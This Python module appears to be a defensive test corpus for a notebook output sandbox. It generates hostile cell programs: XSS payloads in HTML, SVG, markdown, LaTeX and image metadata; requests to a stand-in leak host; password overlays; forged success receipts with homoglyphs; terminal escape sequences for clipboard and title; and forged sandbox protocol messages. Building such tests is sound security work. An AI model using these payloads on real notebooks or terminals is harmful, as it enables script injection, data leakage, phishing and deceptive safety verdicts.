"""A corpus of hostile outputs: programs whose output tries to act on the reader, in a page or a terminal.

A payload that gets its way calls ``bite`` with its name, asks for something below ``LEAK``, moves what stands outside
its own output, or passes for a receipt. The programs use nothing but what an ordinary notebook has (``display`` and
``_repr_*_`` methods), so that the same corpus can be run without PyBox to see that its payloads do work.
"""

# Payloads, each on a line of its own as long as it is.
# ruff: noqa: E501
# fmt: off

from __future__ import annotations

from typing import Final, NamedTuple

__all__ = ["BITTEN", "CORPUS", "LEAK", "Hostile"]

LEAK: Final = "http://leak.invalid"
BITTEN: Final = "BITTEN"


class Hostile(NamedTuple):
    name: str
    tries: str
    source: str


CORPUS: Final[list[Hostile]] = []


def add(name: str, tries: str, source: str) -> None:
    CORPUS.append(Hostile(name, tries, source))


def bite(name: str) -> str:
    """Script, without a double quote or a line's end, that marks the page as bitten."""
    mark = f"top.__bitten=(top.__bitten||'')+' {name}'"
    return f"{mark};top.console.log('{BITTEN} {name}');top.document.title='{BITTEN}'"


def shown(data: dict[str, object], metadata: dict[str, object] | None = None) -> str:
    """A program that displays a bundle of its own making."""
    answer = repr(data) if metadata is None else f"({data!r}, {metadata!r})"
    return (
        "class Shown:\n"
        "    def __repr__(self):\n"
        "        return 'shown as text'\n"
        "    def _repr_mimebundle_(self, include=None, exclude=None):\n"
        f"        return {answer}\n"
        "display(Shown())"
    )


def html(name: str, tries: str, body: str) -> None:
    add(f"html-{name}", tries, f"class Shown:\n    def _repr_html_(self):\n        return {body!r}\ndisplay(Shown())")


def kind(name: str, tries: str, mime: str, data: object) -> None:
    add(f"mime-{name}", tries, shown({"text/plain": "shown as text", mime: data}))


def text(name: str, tries: str, body: str) -> None:
    add(f"text-{name}", tries, f"print({body!r})")


# HTML that runs script ----------------------------------------------------------------------------------------------

FRAME_BITE: Final = f"<script>{bite('html-srcdoc')}</script>"
for label, attempt, markup in (
    ("script", "a script element", "<script>{bite}</script>"),
    ("script-remote", "a script from elsewhere", f"<script src='{LEAK}/script.js'></script>"),
    ("script-module", "a module script", "<script type=module>{bite}</script>"),
    ("onerror", "a handler of a picture that fails", '<img src=x: onerror="{bite}">'),
    ("svg-onload", "a handler of a drawing", '<svg onload="{bite}"><rect width=9 height=9 /></svg>'),
    ("svg-script", "a script in a drawing", "<svg><script>{bite}</script></svg>"),
    ("svg-animate", "a handler of an animation", '<svg><animate attributeName=x dur=1s onbegin="{bite}" /></svg>'),
    ("svg-set-href", "a link that an animation turns into script",
     '<svg><a><set attributeName=href to="javascript:{bite}" /><text y=20>click</text></a></svg>'),
    ("foreign-object", "HTML in a drawing", '<svg><foreignObject><img src=x: onerror="{bite}"></foreignObject></svg>'),
    ("iframe-javascript", "a frame of script", '<iframe src="javascript:{bite}"></iframe>'),
    ("iframe-data", "a frame from a data URI", "<iframe src=\"data:text/html,<script>{bite}</script>\"></iframe>"),
    ("object", "an object", '<object data="javascript:{bite}"></object>'),
    ("embed", "an embedded page", '<embed src="data:text/html,<script>{bite}</script>">'),
    ("link-javascript", "a javascript: link", '<a href="javascript:{bite}">Show the receipt</a>'),
    ("link-javascript-hidden", "the same, with a tab and entities", '<a href="java&#9;script&colon;{bite}">More</a>'),
    ("autofocus", "a field that takes the focus", '<input autofocus onfocus="{bite}">'),
    ("toggle", "a fold that is open", '<details open ontoggle="{bite}"><summary>x</summary>y</details>'),
    ("media", "a source that fails", '<video><source onerror="{bite}"></video><audio src=x: onerror="{bite}">'),
    ("animation", "a handler of a style's animation",
     '<style>@keyframes k{{to{{top:1px}}}}</style><b style="animation:k 1ms" onanimationend="{bite}">x</b>'),
    ("mutation-noscript", "markup that changes meaning when read twice",
     '<noscript><p title="</noscript><img src=x: onerror=&quot;{bite}&quot;>">'),
    ("mutation-math", "the same through mathematics",
     '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror={bite}&gt;">'),
    ("mutation-template", "the same through a template",
     '<template shadowrootmode=open><img src=x: onerror="{bite}"></template>'),
    ("comment", "a comment that ends early", '<!--><img src=x: onerror="{bite}">-->'),
    ("cdata", "a CDATA section", '<svg><![CDATA[><img src=x: onerror="{bite}">]]></svg>'),
    ("slash", "attributes without spaces", '<img/src=x:/onerror="{bite}"/>'),
    ("nul", "a NUL in a tag's name", '<scr\0ipt>{bite}</scr\0ipt><img src=x: on\0error="{bite}">'),
    ("upper-case", "upper case, entities", '<IMG SRC=x: ONERROR="{bite}"><ScRiPt>{bite}</ScRiPt>'),
    ("xml", "a processing instruction", '<?xml-stylesheet href="javascript:{bite}"?><x:script xmlns:x='
     '"http://www.w3.org/1999/xhtml">{bite}</x:script>'),
    ("command-linker", "a button that gives JupyterLab a command",
     '<button data-commandlinker-command="notebook:run-all-below" data-commandlinker-args="{{}}" autofocus '
     'onfocus="{bite}">Run</button>'),
):
    html(label, attempt, markup.format(bite=bite(f"html-{label}")))
html("srcdoc", "a frame with a page of its own", f'<iframe srcdoc="{FRAME_BITE}"></iframe>')

# HTML that asks for something elsewhere, or acts on the page ----------------------------------------------------------

for label, attempt, markup in (
    ("image-remote", "remote pictures", "<img src='{leak}/a.png'><img srcset='{leak}/b.png 2x'><picture>"
     "<source srcset='{leak}/c.png'><img></picture><input type=image src='{leak}/d.png'>"),
    ("media-remote", "remote films and sounds", "<video poster='{leak}/a.png' src='{leak}/b.mp4' autoplay></video>"
     "<audio src='{leak}/c.mp3' autoplay></audio><track src='{leak}/d.vtt'>"),
    ("background", "remote backgrounds", "<table background='{leak}/a.png'><tr><td background='{leak}/b.png'>x</td></tr>"
     "</table><p style='background:url({leak}/c.png)'>x</p>"),
    ("frame-remote", "remote frames", "<iframe src='{leak}/a'></iframe><object data='{leak}/b'></object>"
     "<embed src='{leak}/c'><frameset><frame src='{leak}/d'></frameset>"),
    ("style-remote", "remote styles", "<link rel=stylesheet href='{leak}/a.css'><style>@import '{leak}/b.css';"
     "p{{background:url({leak}/c.png)}} @font-face{{font-family:f;src:url({leak}/d.woff)}} p{{font-family:f}}</style><p>x</p>"),
    ("link-hints", "connections made in advance", "<link rel=dns-prefetch href='{leak}'><link rel=preconnect href='{leak}'>"
     "<link rel=prefetch href='{leak}/a'><link rel=preload as=image href='{leak}/b.png'>"
     "<link rel=icon href='{leak}/c.ico'>"),
    ("meta-refresh", "the page sent elsewhere", "<meta http-equiv=refresh content='0;url={leak}/a'>"),
    ("base", "all links bent", "<base href='{leak}/'><img src='a.png'>"),
    ("svg-remote", "drawings from elsewhere", "<svg><image href='{leak}/a.png' /><use href='{leak}/b.svg#x' />"
     "<feImage href='{leak}/c.png' /></svg>"),
    ("form", "a form that sends by itself", "<form action='{leak}/a' id=f><input name=q value=1 autofocus></form>"
     "<button form=f type=submit>OK</button><img src=x: onerror='document.forms.f.submit()'>"),
    ("ping", "a link that tells on its reader", "<a href='{leak}/a' ping='{leak}/b' target=_blank>the docs</a>"),
    ("overlay", "a cover over the whole page", "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>"
     "Your session has ended. Password:<input type=password></div>"),
    ("style-page", "the page's own look", "<style>*{{display:none!important}} body{{background:red}} .jp-Cell{{opacity:0}}"
     " details.pybox{{visibility:hidden}}</style>"),
    ("lab-classes", "a dialog of JupyterLab's look", "<div class='jp-Dialog lm-Widget jp-mod-styled'>"
     "<div class='jp-Dialog-content'><h1 class='jp-Dialog-header'>Trust this notebook?</h1></div></div>"),
    ("clobber-ids", "names of the page's own elements", "<p id=main>x</p><p id=jupyter-config-data>{{}}</p>"
     "<form id=top><input name=parentNode></form><img name=body><a id=jupyterapp name=jupyterapp></a>"),
    ("unclosed", "elements that swallow what follows", "<table><tr><td><textarea><plaintext><xmp><title><select>"),
    ("closing", "its own frame closed", "</td></tr></table></details></div></div></div></div></main><p>outside</p>"),
    ("popover", "a dialog that is open", "<dialog open style='position:fixed;top:0'>Sign in</dialog><div popover=manual "
     "id=pop>x</div><button popovertarget=pop autofocus>x</button>"),
    ("accesskey", "a key of the keyboard", "<button accesskey=s contenteditable autofocus tabindex=1>x</button>"),
    ("spans", "a cell as wide as the world", "<table><tr><td colspan=99999999 rowspan=99999999>x</td></tr></table>"),
    ("mathematics", "typeset with a link and a style", "<p>$$\\href{{javascript:top.__bitten='math'}}{{x}}"
     "\\style{{position:fixed;top:0}}{{y}}\\require{{html}}\\cssId{{main}}{{z}}$$ \\(\\unicode{{x3c}}\\)</p>"),
):
    html(label, attempt, markup.format(leak=f"{LEAK}/{label}"))
add(
    "html-deep",
    "100,000 elements one in the other",
    "class Shown:\n    def _repr_html_(self):\n        return '<ul><li>' * 100_000 + 'x'\ndisplay(Shown())",
)
add(
    "html-wide",
    "a table of 200,000 cells",
    "class Shown:\n    def _repr_html_(self):\n"
    "        return '<table>' + '<tr><td>x</td></tr>' * 200_000 + '</table>'\ndisplay(Shown())",
)

# Other kinds of output ------------------------------------------------------------------------------------------------

JAVASCRIPT: Final = bite("mime-javascript")
kind("javascript", "script as an output", "application/javascript", JAVASCRIPT)
kind("ecmascript", "script by its other names", "text/javascript", bite("mime-ecmascript"))
kind(
    "markdown",
    "markdown with HTML, a remote picture and a link",
    "text/markdown",
    f'<img src=x: onerror="{bite("mime-markdown")}"> ![p]({LEAK}/a.png) [More](javascript:{bite("mime-markdown")})\n\n'
    f"```mermaid\ngraph TD; A[<img src='{LEAK}/b.png'>]; click A href \"javascript:x\"\n```",
)
kind(
    "latex", "mathematics with a link", "text/latex", f"$$\\href{{javascript:{bite('mime-latex')}}}{{\\text{{Open}}}}$$"
)
kind(
    "latex-style",
    "mathematics all over the page",
    "text/latex",
    "$$\\require{html}\\style{position:fixed;top:0;left:0;font-size:900px}{\\unicode{x2588}}\\cssId{main}{x}$$",
)
kind(
    "svg",
    "a drawing with script and remote pictures",
    "image/svg+xml",
    f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{bite('mime-svg')}\"><script>{bite('mime-svg')}</script>"
    f"<image href='{LEAK}/a.png'/><use href='{LEAK}/b.svg#x'/><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>"
    f"<img src='{LEAK}/c.png'/></body></foreignObject></svg>",
)
kind("widget-view", "somebody else's widget", "application/vnd.jupyter.widget-view+json",
     {"version_major": 2, "version_minor": 0, "model_id": "00000000000000000000000000000001"})
kind("widget-view-text", "the same as text", "application/vnd.jupyter.widget-view+json",
     '{"version_major": 2, "version_minor": 0, "model_id": "receipt"}')
kind("widget-state", "models of widgets", "application/vnd.jupyter.widget-state+json",
     {"version_major": 2, "version_minor": 0, "state": {"x": {"model_name": "HTMLModel", "model_module":
      "@jupyter-widgets/controls", "state": {"value": f"<img src=x: onerror=\"{bite('mime-widget-state')}\">"}}}})
kind("vega", "a chart with data from elsewhere", "application/vnd.vega.v5+json",
     {"$schema": "https://vega.github.io/schema/vega/v5.json", "data": [{"name": "t", "url": f"{LEAK}/a.json"}],
      "marks": [{"type": "image", "encode": {"enter": {"url": {"value": f"{LEAK}/b.png"}}}}]})
kind("vegalite", "the same, of the other kind", "application/vnd.vegalite.v5+json",
     {"$schema": "https://vega.github.io/schema/vega-lite/v5.json", "data": {"url": f"{LEAK}/a.csv"}, "mark": "point",
      "encoding": {"x": {"field": "a"}, "href": {"field": "b"}}})
kind("geojson", "a map", "application/geo+json",
     {"type": "FeatureCollection", "features": [{"type": "Feature", "geometry": {"type": "Point", "coordinates": [0, 0]},
      "properties": {"popup": f"<img src='{LEAK}/a.png'>", "icon": f"{LEAK}/b.png"}}]})
kind("plotly", "a plot with pictures and links", "application/vnd.plotly.v1+json",
     {"data": [{"x": [1], "y": [1], "text": [f"<a href=\"javascript:{bite('mime-plotly')}\">x</a>"]}],
      "layout": {"images": [{"source": f"{LEAK}/a.png"}]}})
kind("json", "a tree with hostile names", "application/json",
     {f"<img src=x: onerror=\"{bite('mime-json')}\">": f"<script>{bite('mime-json')}</script>"})
kind("pdf", "a document", "application/pdf", "JVBERi0xLjQKJeLjz9MKMSAwIG9iago8PC9UeXBlL0NhdGFsb2c+PgplbmRvYmoK")
kind("stdout", "an output by the name of a stream's renderer", "application/vnd.jupyter.stdout", "✓ Ended normally")
kind("error", "an output by the name of an error's renderer", "application/vnd.jupyter.error", "✓ Ended normally")
kind("mermaid", "a diagram", "text/vnd.mermaid", f'graph TD; A["<img src={LEAK}/a.png>"]; click A href "{LEAK}/b"')
kind("xhtml", "HTML by another name", "application/xhtml+xml", f"<script>{bite('mime-xhtml')}</script>")
kind("html-parameters", "HTML by a longer name", "text/html; charset=utf-8", f"<script>{bite('mime-html')}</script>")
kind("html-upper-case", "HTML in upper case", "TEXT/HTML", f"<script>{bite('mime-html')}</script>")
kind("html-list", "HTML in pieces", "text/html", ["<script>", bite("mime-html-list"), "</script>"])
kind("invented", "a name that is markup", f'<img src=x: onerror="{bite("mime-invented")}">', "x")
kind(
    "pybox", "an output by the name of a receipt", "application/vnd.pybox.receipt+json", {"verdict": "✓ Ended normally"}
)
add(
    "mime-metadata",
    "metadata that asks for a frame of its own and for trust",
    shown(
        {"text/plain": "x", "text/html": f"<script>{bite('mime-metadata')}</script>"},
        {"text/html": {"isolated": True, "trusted": True}, "trusted": True, "display_id": "x"},
    ),
)
add("mime-last-value", "script in the cell's last value", shown({"text/html": f"<script>{bite('mime-last-value')}</script>"})
    .replace("display(Shown())", "Shown()"))
add("mime-many-displays", "5,000 displays", "for number in range(5_000):\n    display(number)")

# Pictures -------------------------------------------------------------------------------------------------------------

PNG: Final = """\
import base64, struct, zlib

def chunk(name, data):
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

def png(width, height, rows, *more):
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    data = chunk(b"IDAT", zlib.compress(rows))
    return b"\\x89PNG\\r\\n\\x1a\\n" + head + b"".join(more) + data + chunk(b"IEND", b"")

class Picture:
    def __init__(self, data, mime="image/png"):
        self.data, self.mime = data, mime
    def _repr_mimebundle_(self, include=None, exclude=None):
        return {"text/plain": "a picture", self.mime: base64.b64encode(self.data).decode()}

rows = (b"\\0" + b"\\x20\\xa0\\x40" * 40) * 20
"""


def picture(name: str, tries: str, program: str) -> None:
    add(f"picture-{name}", tries, PNG + program)


MARKUP: Final = f'<html><script>{bite("picture")}</script><img src=x: onerror="{bite("picture")}">'
picture(
    "text-chunks",
    "script in a picture's text",
    f"""\
markup = {MARKUP!r}.encode()
texts = chunk(b"tEXt", b"Title\\0" + markup), chunk(b"iTXt", b"XML:com.adobe.xmp\\0\\0\\0\\0\\0" + markup)
display(Picture(png(40, 20, rows, *texts)))""",
)
picture("polyglot", "a picture that is also a page", f"display(Picture(png(40, 20, rows) + {MARKUP!r}.encode()))")
picture("no-picture", "a page that says it is a picture", f"display(Picture({MARKUP!r}.encode()))")
picture("svg-as-png", "a drawing that says it is a picture",
        f"display(Picture(b'<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"{LEAK}/a.png\"/></svg>'))")
picture(
    "breaks-out",
    "data that ends the element's attribute",
    f"""\
class Broken(Picture):
    def _repr_mimebundle_(self, include=None, exclude=None):
        return {{"text/plain": "x", "image/png": {'"><img src=x: onerror="' + bite("picture-breaks-out") + '">'!r}}}
display(Broken(b""))""",
)
picture("bomb", "a picture of 60,000 by 60,000", "display(Picture(png(60_000, 60_000, bytes(1000))))")
picture(
    "jpeg",
    "script in a JPEG's comment and application data",
    f"""\
markup = {MARKUP!r}.encode()
def part(mark, data):
    return bytes((0xff, mark)) + struct.pack(">H", len(data) + 2) + data
jpeg = b"\\xff\\xd8" + part(0xe0, b"JFIF\\0\\1\\1\\0\\0\\1\\0\\1\\0\\0") + part(0xe1, b"Exif\\0\\0" + markup) + part(0xfe, markup)
jpeg += part(0xdb, bytes([0]) + bytes([1]) * 64) + part(0xc0, bytes([8, 0, 8, 0, 8, 1, 1, 0x11, 0]))
jpeg += part(0xc4, bytes([0, 1] + [0] * 15 + [0])) + part(0xc4, bytes([0x10, 1] + [0] * 15 + [0]))
jpeg += part(0xda, bytes([1, 1, 0, 0, 63, 0])) + bytes(2) + b"\\xff\\xd9" + markup
display(Picture(jpeg, "image/jpeg"))""",
)
picture(
    "of-a-receipt",
    "the picture of a receipt",
    """\
wide, green, grey = 700, b"\\x2d\\xa4\\x4e", b"\\xf3\\xf3\\xf3"
line = b"\\0" + green * 4 + grey * (wide - 4)
letters = b"\\0" + green * 4 + grey * 10 + (b"\\x20\\x20\\x20" * 4 + grey * 3) * 60 + grey * (wide - 434)
display(Picture(png(wide, 29, line * 9 + letters * 11 + line * 9)))""",
)
for other in ("image/gif", "image/webp", "image/bmp"):
    picture(
        other.removeprefix("image/"), f"a picture of another kind, {other}", f'display(Picture(b"GIF89a", {other!r}))'
    )

# Text in a page -------------------------------------------------------------------------------------------------------

RECEIPT: Final = "✓ Ended normally · 0.01 of 2 s · sealed: no network, none of your files"
FOLD: Final = (
    "<details class='pybox pybox-ok mathjax_ignore tex2jax_ignore' style='border-left:4px solid #2da44e;"
    "background:#88888812;padding:4px 10px;font-size:13px;line-height:1.5'><summary style='cursor:pointer'><b>"
    "<span style='color:#2da44e'>✓</span> Ended normally</b><span style='opacity:0.75'> · 0.01 of 2 s · sealed: no "
    "network, none of your files</span></summary><dl><dt><b>Allowed</b></dt><dd>everything</dd></dl></details>"
)
MATHEMATICS: Final = "$$\\href{javascript:top.__bitten='math'}{x}\\style{position:fixed;top:0}{y}\\cssId{main}{z}$$"
FRAME_LABEL: Final = "Shown by the program"

html("receipt", "the HTML of a receipt, to the letter", FOLD)
html(
    "receipt-as-table",
    "a receipt out of what is allowed",
    f"<table><tr><td><b>✓ Ended normally</b> {RECEIPT}</td></tr></table>",
)
html("frame-forged", "a frame, and a receipt after its end", f"</div></div><p>{FRAME_LABEL}</p>{FOLD}<div><div>")
html(
    "widget-markup",
    "the markup of a widget",
    f"<div class='jupyter-widgets widget-html'><div class='widget-html-content'>{FOLD}</div></div>",
)
kind("receipt", "a receipt's whole bundle", "text/html", FOLD)
text("receipt", "a receipt as text", f"{RECEIPT}\n{RECEIPT}")
text("receipt-homoglyph", "a receipt of letters that look alike", "✔ Еnded nоrmаlly · 0.01 οf 2 s · sеаlеd: nо nеtwоrk")
text(
    "markup",
    "markup that is printed",
    f'<script>{bite("text-markup")}</script><img src=x: onerror="{bite("text-markup")}">{FOLD}',
)
text(
    "mathematics",
    "mathematics that is printed",
    MATHEMATICS + " \\(x\\) \\begin{equation}\\href{javascript:1}{x}\\end{equation}",
)
text(
    "links",
    "addresses that a page makes links of",
    f"{LEAK}/a javascript:{bite('text-links')} www.leak.invalid file:///etc/passwd",
)
text("link-breaks-out", "an address that ends the link's attribute",
     f'{LEAK}/"><img src=x: onerror="{bite("text-link-breaks-out")}"> {LEAK}/\x1b[1m"onmouseover="{bite("x")}"\x1b[0m')
text(
    "paths",
    "file names that a page makes links of",
    'File "/etc/passwd", line 1\n./secret.ipynb:3:1\nsecret.ipynb, line 3',
)
text("ansi-markup", "colour that a page makes elements of",
     f'\x1b[38;2;1;2;3";background:url({LEAK}/a)mx\x1b[0m \x1b[31m<img src=x: onerror="{bite("text-ansi")}">\x1b[0m')
text(
    "ansi-link",
    "an escape sequence that a page makes a link of",
    f"\x1b]8;;javascript:{bite('text-ansi-link')}\x07Open\x1b]8;;\x07",
)
text("markdown", "markdown that is printed", f"[More](javascript:{bite('text-markdown')}) ![p]({LEAK}/a.png)")
text("zmq", "messages of Jupyter's own protocol",
     '<IDS|MSG>{"msg_type": "display_data"}{}{}{"data": {"text/html": "<script>top.__bitten=1</script>"}, "metadata": {}}')
text("bidi", "text that turns its neighbours round", "\u202e yllamron dednE \u2713 \u2066\u202d\u200f\u061c end")
text(
    "zero-width",
    "characters that take no room",
    "re\u200bce\u200cip\u2060t\ufeff\u00ad\u034f \U000e0041\U000e0042\u3164\uffa0",
)
add("text-marks", "letters under a tower of marks", "print('Z' + '\\u0301\\u0489\\u0335' * 3000 + ' tower')")
text("separators", "line ends of other kinds", f"a\u2028b\u2029c\x85d\x0be\x0cf\x1cg {RECEIPT}")
add("text-long-line", "one line of 60,000 characters", "print('x' * 60_000)")
text(
    "controls", "all controls and no text", "".join(map(chr, (*range(1, 9), *range(11, 32), *range(127, 160)))) + "end"
)
add(
    "text-not-utf8",
    "bytes that are no text",
    "import os\nos.write(1, bytes(range(128, 256)) + b'\\xed\\xa0\\x80\\xf5\\n')",
)
add("text-stderr", "a receipt as a warning", f"import sys\nprint({RECEIPT + FOLD!r}, file=sys.stderr)")
add(
    "text-display",
    "a receipt as a value",
    f"class Shown:\n    def __repr__(self):\n        return {RECEIPT + FOLD!r}\ndisplay(Shown())\nShown()",
)
add("text-flood", "far more text than anyone reads", "while True:\n    print('tick ' * 12)")

# Terminals ------------------------------------------------------------------------------------------------------------

for label, attempt, sequence in (
    ("clear", "the screen cleared", "\x1b[2J\x1b[3J\x1b[H"),
    ("cursor", "the cursor moved over what stands there", "\x1b[5A\x1b[1;1H\x1b[s\x1b[u\x1b[?25l"),
    ("reset", "the terminal reset", "\x1bc\x1b[!p"),
    ("title", "the window's title", "\x1b]0;BITTEN title\x07\x1b]2;BITTEN title\x1b\\"),
    ("link", "a link", "\x1b]8;;http://leak.invalid/a\x1b\\Open\x1b]8;;\x1b\\"),
    ("clipboard", "the clipboard", "\x1b]52;c;QklUVEVO\x07\x1b]52;p;QklUVEVO\x1b\\"),
    ("device-control", "a device control string", "\x1bP$qm\x1b\\\x1bP+q544e\x1b\\"),
    ("application", "kitty's pictures", "\x1b_Gf=24,s=1,v=1,a=T;AAAA\x1b\\"),
    ("sixel", "pictures of the sixel kind", "\x1bPq#0;2;0;0;0#0!9~-\x1b\\"),
    ("iterm", "files and marks", "\x1b]1337;File=inline=1:QklUVEVO\x07\x1b]7;file:///etc\x07\x1b]777;notify;a;b\x07"),
    ("privacy", "privacy messages and start of string", "\x1b^BITTEN\x1b\\\x1bXBITTEN\x1b\\"),
    ("eight-bit", "the same in one byte each", "\x9b2J\x9d0;BITTEN\x9c\x90q\x9c\x9f\x9c"),
    ("answer", "questions that the terminal answers as if typed", "\x1b[6n\x1b[c\x1b[>c\x1b[?2026$p\x1b]11;?\x07\x05"),
    ("modes", "mouse, paste, alternate screen", "\x1b[?1049h\x1b[?1000h\x1b[?2004h\x1b[?7l\x1b(0\x0e"),
    ("window", "the window moved, and its title read back", "\x1b[3;0;0t\x1b[21t\x1b[8;1;1t"),
    ("conceal", "text that cannot be seen", "\x1b[8mhidden\x1b[28m\x1b[30;40mblack\x1b[0m"),
    ("unended", "a sequence that does not end", "\x1b]0;BITTEN"),
    ("overwrite", "a receipt over the line that was there", "Error\r\x1b[K" + RECEIPT + "\b\b\b"),
):
    text(f"terminal-{label}", attempt, f"before{sequence}after")

# Errors ---------------------------------------------------------------------------------------------------------------

ESCAPES: Final = "\x1b]0;BITTEN\x07\x1b[2J\x1b]52;c;QklUVEVO\x07"
HANDLER: Final = f'<img src=x: onerror="{bite("error")}">'
add("error-name", "an error by a receipt's name", f"raise type({RECEIPT!r}, (Exception,), {{}})()")
add("error-name-markup", "a name that is markup", f"raise type({HANDLER + FOLD!r}, (Exception,), {{}})('x')")
add("error-name-escapes", "a name that is an escape sequence", f"raise type({ESCAPES!r}, (Exception,), {{}})('x')")
add("error-value", "a value that is markup and mathematics", f"raise ValueError({HANDLER + FOLD + MATHEMATICS!r})")
add("error-value-escapes", "a value that is an escape sequence", f"raise ValueError({ESCAPES + RECEIPT!r})")
add(
    "error-notes",
    "notes that look like a receipt",
    f"error = ValueError('x')\nerror.add_note({RECEIPT + HANDLER + ESCAPES!r})\nraise error",
)
add(
    "error-chain",
    "causes that look like a receipt",
    f"raise ValueError({RECEIPT!r}) from KeyError({HANDLER + ESCAPES!r})",
)
add(
    "error-group",
    "a group of them",
    f"raise ExceptionGroup({RECEIPT!r}, [ValueError({HANDLER!r}), KeyError({ESCAPES!r})])",
)
add("error-file-name", "a file's name in a traceback", f"exec(compile('1/0', {RECEIPT + HANDLER + ESCAPES!r}, 'exec'))")
add("error-function-name", "a function's name in a traceback",
    f"def fail():\n    1/0\nfail.__code__ = fail.__code__.replace(co_name={HANDLER + ESCAPES!r}, co_qualname={RECEIPT!r})\nfail()")
add("error-syntax", "a syntax error's own line", f"exec(compile({'x = ( ' + HANDLER!r}, {RECEIPT!r}, 'exec'))")
add("error-missing-file", "a missing file's name", f"open({HANDLER + ESCAPES + RECEIPT!r})")
add("error-missing-module", "a missing module's name", f"__import__({HANDLER + ESCAPES!r})")
add(
    "error-missing-name",
    "a name that an earlier cell might have defined",
    f"raise NameError({RECEIPT!r}, name={HANDLER + ESCAPES!r})",
)
add("error-long", "a value of a million characters", "raise ValueError('x' * 1_000_000)")
add("error-left-early", "a receipt and then the door", f"import os\nprint({RECEIPT!r}, flush=True)\nos._exit(0)")

# Forged messages of the box's own -------------------------------------------------------------------------------------

FORGE: Final = """\
import json, os, struct

def forge(kind, payload):
    data = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
    framed = kind + struct.pack(">I", len(data)) + data
    for channel in (1, 2, *range(3, 64)):
        try:
            os.set_blocking(channel, False)
            os.write(channel, framed)
        except OSError:
            pass

def shown(data, table=None, withheld={}):
    return {"result": False, "data": data, "table": table, "withheld": withheld}
"""
TABLE: Final = (
    "{'columns': [[%r, %r]], 'index_names': [%r], 'index': [[%r]], 'rows': [[%r, %r]], 'numeric': [False, False],"
    " 'shape': [1, 2], 'row_gap': None, 'column_gap': None}"
)


def forged(name: str, tries: str, program: str) -> None:
    add(f"forged-{name}", tries, FORGE + program)


forged(
    "html",
    "a display that went past the box's own part",
    f"forge(b'd', shown({{'text/plain': 'x', 'text/html': {HANDLER + FOLD!r}}}))",
)
forged(
    "javascript",
    "a kind of output that does not leave the box",
    f"forge(b'd', shown({{'text/plain': 'x', 'application/javascript': {JAVASCRIPT!r}}}))",
)
forged("table", "a table of markup, mathematics and escapes",
       f"forge(b'd', shown({{'text/plain': 'x'}}, {TABLE % (HANDLER, ESCAPES, MATHEMATICS, RECEIPT, FOLD, ESCAPES)}))")
forged("table-false", "a table that says it is larger", f"forge(b'd', shown({{'text/plain': 'x'}}, {TABLE % (('x',) * 6)} | "
       "{'shape': [10**30, -1], 'row_gap': 99}))")
forged(
    "withheld",
    "names of what was withheld",
    f"forge(b'd', shown({{'text/plain': 'x'}}, None, {{{HANDLER + ESCAPES + RECEIPT!r}: 12}}))",
)
forged("error", "an error that speaks for the box",
       f"forge(b'x', {{'name': {HANDLER!r}, 'value': {RECEIPT!r}, 'traceback': {FOLD + ESCAPES!r},"
       f" 'about': {{'kind': 'module', 'what': {HANDLER + ESCAPES!r}}}}})")
forged(
    "about",
    "a wall that is not there",
    f"forge(b'x', {{'name': 'x', 'value': 'y', 'traceback': 'z', 'about': {{'kind': {HANDLER!r}, 'what': 1}}}})",
)
forged("completed", "the word that it reached its end", "forge(b'c', {})\nos._exit(0)")
forged("ended", "the box's own last word", "forge(b'E', {'how': 'exited', 'exit_code': 0})\nforge(b'r', b'')")
forged("garbage", "no message at all", "forge(b'd', b'[' * 100_000)\nforge(b'd', b'\\xff' * 100)\nforge(b'\\0', b'')")
forged(
    "comm",
    "a comm, a widget and a message of Jupyter's",
    """\
for message in ("comm_open", "comm_msg", "update_display_data", "clear_output"):
    forge(b"d", {"msg_type": message, "content": {"comm_id": "x", "target_name": "jupyter.widget", "data": {}}})
try:
    from comm import create_comm
    create_comm(target_name="jupyter.widget", data={"state": {"_model_name": "HTMLModel"}})
except ImportError:
    print("no comm here")""",
)
